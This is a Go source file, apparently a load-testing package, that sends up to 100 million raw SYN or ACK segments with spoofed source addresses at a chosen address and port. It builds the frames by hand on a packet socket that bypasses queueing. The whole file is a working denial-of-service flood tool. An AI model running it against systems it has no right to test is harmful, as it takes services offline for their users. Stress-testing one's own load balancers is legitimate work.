package synflood

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// MaxCount bounds Options.Count.
const MaxCount = 100_000_000

// Options describe a flood.
type Options struct {
	// Interface is the interface the frames leave by (in the calling
	// thread's network namespace).
	Interface string
	// DstMAC is the next hop's MAC (the load balancer's interface);
	// SrcMAC the source MAC of the frames.
	DstMAC, SrcMAC net.HardwareAddr
	// Dst and DstPort are the destination (a VIP and a service port).
	Dst     netip.Addr
	DstPort uint16
	// Sources is the prefix the spoofed source addresses are drawn from;
	// of Dst's family.
	Sources netip.Prefix
	// Count is the number of frames to send, 1..MaxCount.
	Count int
	// Seed makes the sources and ports reproducible.
	Seed uint64
	// ACK sends bare ACK segments (with a random acknowledgement number)
	// of flows that never existed instead of SYNs: an ACK flood.
	ACK bool
}

func (o Options) validate() error {
	switch {
	case o.Interface == "":
		return errors.New("no interface")
	case len(o.DstMAC) != 6 || len(o.SrcMAC) != 6:
		return errors.New("MAC addresses must be 6 bytes")
	case !o.Dst.IsValid() || o.Dst.Zone() != "":
		return errors.New("no destination address")
	case !o.Sources.IsValid() || o.Sources.Addr().Is4() != o.Dst.Unmap().Is4():
		return fmt.Errorf("source prefix %s is not of the destination's family", o.Sources)
	case o.Count < 1 || o.Count > MaxCount:
		return fmt.Errorf("count %d out of range 1..%d", o.Count, MaxCount)
	}
	return nil
}

// Result is what a flood did.
type Result struct {
	Sent     int           // frames written
	Retries  int           // writes repeated because the socket's queue was full
	Duration time.Duration // from the first write to the last
}

// Run sends o.Count spoofed SYN (or ACK) frames (fewer if ctx ends first) and
// returns what it sent.
func Run(ctx context.Context, o Options) (Result, error) {
	var res Result
	if err := o.validate(); err != nil {
		return res, fmt.Errorf("synflood: %w", err)
	}
	ifi, err := net.InterfaceByName(o.Interface)
	if err != nil {
		return res, fmt.Errorf("synflood: %w", err)
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return res, fmt.Errorf("synflood: packet socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1); err != nil {
		return res, fmt.Errorf("synflood: qdisc bypass: %w", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: ifi.Index}); err != nil {
		return res, fmt.Errorf("synflood: bind to %s: %w", o.Interface, err)
	}
	f := newFrame(o)
	rng := rand.New(rand.NewPCG(o.Seed, 0x5f1d))
	start := time.Now()
	for res.Sent < o.Count {
		if res.Sent%1024 == 0 && ctx.Err() != nil {
			break
		}
		f.next(rng)
		for {
			_, err := unix.Write(fd, f.b)
			if err == nil {
				break
			}
			if !errors.Is(err, unix.ENOBUFS) && !errors.Is(err, unix.EAGAIN) && !errors.Is(err, unix.EINTR) {
				res.Duration = time.Since(start)
				return res, fmt.Errorf("synflood: write: %w", err)
			}
			res.Retries++
			if res.Retries%64 == 0 {
				if ctx.Err() != nil { // a queue that never drains does not hold the flood forever
					res.Duration = time.Since(start)
					return res, ctx.Err()
				}
				time.Sleep(50 * time.Microsecond)
			}
		}
		res.Sent++
	}
	res.Duration = time.Since(start)
	return res, ctx.Err()
}

// frame is the SYN (or ACK) frame being sent, rewritten in place for each one.
type frame struct {
	b       []byte
	v6      bool
	ack     bool
	l3, l4  int // offsets of the IP and TCP headers
	src     netip.Prefix
	srcOff  int // offset of the source address
	srcLen  int // 4 or 16
	pseudo0 uint32
}

const tcpHdr = 20

func newFrame(o Options) *frame {
	f := &frame{v6: !o.Dst.Unmap().Is4(), ack: o.ACK, l3: 14, src: o.Sources.Masked()}
	if f.v6 {
		f.l4, f.srcOff, f.srcLen = 14+40, 14+8, 16
	} else {
		f.l4, f.srcOff, f.srcLen = 14+20, 14+12, 4
	}
	f.b = make([]byte, f.l4+tcpHdr)
	copy(f.b[0:], o.DstMAC)
	copy(f.b[6:], o.SrcMAC)
	ip := f.b[f.l3:]
	if f.v6 {
		binary.BigEndian.PutUint16(f.b[12:], unix.ETH_P_IPV6)
		ip[0] = 0x60
		binary.BigEndian.PutUint16(ip[4:], tcpHdr)
		ip[6], ip[7] = unix.IPPROTO_TCP, 64
		d := o.Dst.As16()
		copy(ip[24:], d[:])
	} else {
		binary.BigEndian.PutUint16(f.b[12:], unix.ETH_P_IP)
		ip[0] = 0x45
		binary.BigEndian.PutUint16(ip[2:], 20+tcpHdr)
		ip[6] = 0x40 // DF
		ip[8], ip[9] = 64, unix.IPPROTO_TCP
		d := o.Dst.Unmap().As4()
		copy(ip[16:], d[:])
	}
	tcp := f.b[f.l4:]
	binary.BigEndian.PutUint16(tcp[2:], o.DstPort)
	tcp[12] = 5 << 4 // data offset
	tcp[13] = 0x02   // SYN
	if o.ACK {
		tcp[13] = 0x10 // ACK
	}
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	// The checksum's constant part: destination address, protocol, length.
	dst := f.b[f.srcOff+f.srcLen : f.srcOff+2*f.srcLen]
	f.pseudo0 = sum16(dst) + unix.IPPROTO_TCP + tcpHdr
	return f
}

// next draws a source address and port, a sequence (and acknowledgement) number, and fixes
// the checksums.
func (f *frame) next(rng *rand.Rand) {
	var a [16]byte
	binary.BigEndian.PutUint64(a[:8], rng.Uint64())
	binary.BigEndian.PutUint64(a[8:], rng.Uint64())
	base := f.src.Addr().AsSlice()
	bits := f.src.Bits()
	src := f.b[f.srcOff : f.srcOff+f.srcLen]
	for i := range src {
		keep := byte(0)
		switch {
		case bits >= 8*(i+1):
			keep = 0xff
		case bits > 8*i:
			keep = byte(0xff << (8 - (bits - 8*i)))
		}
		src[i] = base[i]&keep | a[i]&^keep
	}
	tcp := f.b[f.l4:]
	binary.BigEndian.PutUint16(tcp[0:], uint16(1024+rng.IntN(64512)))
	binary.BigEndian.PutUint32(tcp[4:], rng.Uint32())
	if f.ack {
		binary.BigEndian.PutUint32(tcp[8:], rng.Uint32())
	}
	tcp[16], tcp[17] = 0, 0
	binary.BigEndian.PutUint16(tcp[16:], ^fold(f.pseudo0+sum16(src)+sum16(tcp)))
	if !f.v6 {
		ip := f.b[f.l3 : f.l3+20]
		ip[10], ip[11] = 0, 0
		binary.BigEndian.PutUint16(ip[10:], ^fold(sum16(ip)))
	}
}

func sum16(b []byte) uint32 {
	var s uint32
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	return s
}

func fold(s uint32) uint16 {
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return uint16(s)
}
